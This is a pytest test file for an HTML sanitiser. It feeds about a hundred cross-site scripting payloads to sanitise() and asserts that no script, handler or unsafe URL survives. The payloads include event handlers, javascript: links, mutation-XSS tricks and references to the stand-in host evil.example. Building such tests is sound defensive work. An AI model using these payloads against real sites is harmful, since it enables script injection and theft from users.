"""Markup written to hurt: nothing of it may run, whatever remains of the text."""

from html.parser import HTMLParser

import pytest
from hypothesis import given, settings, strategies as st

from articles.text.markup import ALLOWED_ATTRIBUTES, ALLOWED_TAGS, safe_url, sanitise

HOSTILE = [
    # Handlers, in every place and spelling.
    "<p onclick=alert(1)>x",
    "<p ONCLICK=alert(1)>x",
    "<p/onclick=alert(1)>x",
    "<p\tonmouseover=alert(1)\n>x",
    '<p x="\'" onclick="alert(1)">x',
    "<p onclick\x00=alert(1)>x",
    "<a href=/ onfocus=alert(1) autofocus>x</a>",
    "<td onclick=alert(1)>x",
    "<table onload=alert(1)><tr><td>x</table>",
    "<figure data-picture=1 onload=alert(1)>x</figure>",
    '<figure data-picture="1&quot; onload=&quot;alert(1)">x</figure>',
    '<a href="/" title="&quot; onclick=&quot;alert(1)">x</a>',
    "<a href='/\"onclick=\"alert(1)'>x</a>",
    "<body onload=alert(1)>x",
    "<img src=x onerror=alert(1)>",
    "<img/src/onerror=alert(1)>",
    "<image src=x onerror=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)><option>x</select>",
    "<textarea autofocus onfocus=alert(1)>x",
    "<details open ontoggle=alert(1)>x</details>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<button popovertarget=x>x</button><div popover id=x onbeforetoggle=alert(1)>",
    "<x onclick=alert(1) tabindex=1>x</x>",
    # Scripts and what holds raw text.
    "<script>alert(1)</script>x",
    "<SCRIPT SRC=//evil.example></SCRIPT>x",
    "<script\x0c>alert(1)</script>x",
    "<scr<script>ipt>alert(1)</scr</script>ipt>x",
    "<script>alert(1)",
    "<<script>alert(1)//<</script>x",
    "</p><script>alert(1)</script><p>",
    "<style>@import 'javascript:alert(1)';</style>x",
    "<style><img src='</style><img src=x onerror=alert(1)>'>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<title><img src='</title><img src=x onerror=alert(1)>'>",
    "<textarea><img title='</textarea><img src=x onerror=alert(1)>'>",
    "<xmp><img title='</xmp><img src=x onerror=alert(1)>'>",
    "<noembed><img title='</noembed><img src=x onerror=alert(1)>'>",
    "<plaintext><script>alert(1)</script>",
    "<template><script>alert(1)</script></template>x",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<applet code=x></applet>",
    "<frameset onload=alert(1)><frame src=javascript:alert(1)></frameset>",
    # Addresses.
    "<a href=javascript:alert(1)>x</a>",
    "<a href=' javascript:alert(1)'>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='java&#10;script:alert(1)'>x</a>",
    "<a href='&#1;javascript:alert(1)'>x</a>",
    "<a href='&#x6A&#x61vascript&colon;alert(1)'>x</a>",
    "<a href='JaVaScRiPt&#58;alert(1)'>x</a>",
    "<a href=vbscript:x>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href=//evil.example>x</a>",
    "<a href='/\\evil.example'>x</a>",
    "<a href='/&Tab;/evil.example'>x</a>",
    "<a href='https://good.example\\@evil.example'>x</a>",
    "<a href='https://user@evil.example'>x</a>",
    "<a href=/ target=_blank rel=opener>x</a>",
    "<a href=/ ping=//evil.example download>x</a>",
    "<a xlink:href=javascript:alert(1)>x</a>",
    "<base href=//evil.example>x",
    "<form action=javascript:alert(1)><button>x</button></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<link rel=stylesheet href=//evil.example>x",
    "<p style='background:url(javascript:alert(1))'>x",
    "<p style='position:fixed;inset:0'>x",
    "<p id=x name=y class=z slot=a is=b itemprop=c>x",
    # Foreign content and markup that changes when it is read again.
    "<svg onload=alert(1)>x",
    "<svg><script>alert(1)</script></svg>x",
    "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x></svg>",
    "<svg><use href='data:image/svg+xml,x#y'/></svg>",
    "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
    "<math><mi xlink:href=javascript:alert(1)>x</math>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<math><annotation-xml encoding=text/html><script>alert(1)</script></math>",
    "<svg><foreignObject><p onclick=alert(1)>x</foreignObject></svg>",
    "<svg><![CDATA[<img src=x onerror=alert(1)>]]></svg>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!--!><img src=x onerror=alert(1)>",
    "<!-- --!><img src=x onerror=alert(1)>-->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?xml version=1.0?><?php alert(1)?>x",
    "<!DOCTYPE html [<!ENTITY x '<script>alert(1)</script>'>]>&x;",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&amp;lt;img src=x onerror=alert(1)&amp;gt;",
    "<p title='<img src=x onerror=alert(1)>'>x",
    "<a href='/' title='</a><img src=x onerror=alert(1)>'>x</a>",
    "<table><td><svg><desc><table><td></desc><img src=x onerror=alert(1)>",
    "<li><p><ul><table><a href=/><td></a><b onclick=alert(1)>x",
    "<p>\ufeff<scr\u200bipt>alert(1)</scr\u200bipt>",
    "<scr\x00ipt>alert(1)</scr\x00ipt>",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "<" + "a " * 2000 + "onclick=alert(1)>x",
    "<p" + " x" * 2000 + " onclick=alert(1)>x",
]


class Inspector(HTMLParser):
    """Collects what a browser would find in the result."""

    def __init__(self, html):
        super().__init__()
        self.elements = []
        self.others = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag, attrs):
        self.elements.append((tag, dict(attrs)))

    def handle_comment(self, data):
        self.others.append(data)

    handle_decl = handle_pi = unknown_decl = handle_comment


def assert_harmless(html):
    clean = sanitise(html)
    seen = Inspector(clean)
    assert seen.others == []
    for tag, attributes in seen.elements:
        assert tag in ALLOWED_TAGS
        extra = set(attributes) - ALLOWED_ATTRIBUTES.get(tag, set())
        assert extra <= ({"rel"} if tag == "a" else set())
        if tag == "a":
            assert attributes["rel"] == "noopener"
            assert safe_url(attributes["href"]) == attributes["href"]
        if tag == "figure":
            assert attributes["data-picture"].isdigit()
    assert sanitise(clean) == clean


@pytest.mark.parametrize("html", HOSTILE, ids=range(len(HOSTILE)))
def test_nothing_that_runs_is_left(html):
    assert_harmless(html)


@pytest.mark.parametrize(
    "wrapper", ["<p>{}</p>", "<table><tr><td>{}", "<ul><li>{}", "<b>{}"]
)
def test_nothing_that_runs_is_left_inside_a_block(wrapper):
    for html in HOSTILE:
        assert_harmless(wrapper.format(html))


def test_no_word_of_a_script_or_style_is_left():
    for holder in ("script", "style", "iframe", "template", "svg", "noscript"):
        assert sanitise(f"前<{holder}>alert(1)</{holder}>后") == "<p>前后</p>"


@settings(deadline=None, max_examples=300)
@given(st.lists(st.sampled_from(HOSTILE[:-2]), min_size=2, max_size=4), st.data())
def test_cut_and_joined_attacks_are_harmless_too(snippets, data):
    cuts = [data.draw(st.integers(0, len(snippet))) for snippet in snippets]
    halves = [
        s[:cut] if i % 2 else s[cut:]
        for i, (s, cut) in enumerate(zip(snippets, cuts, strict=True))
    ]
    assert_harmless("".join(halves))
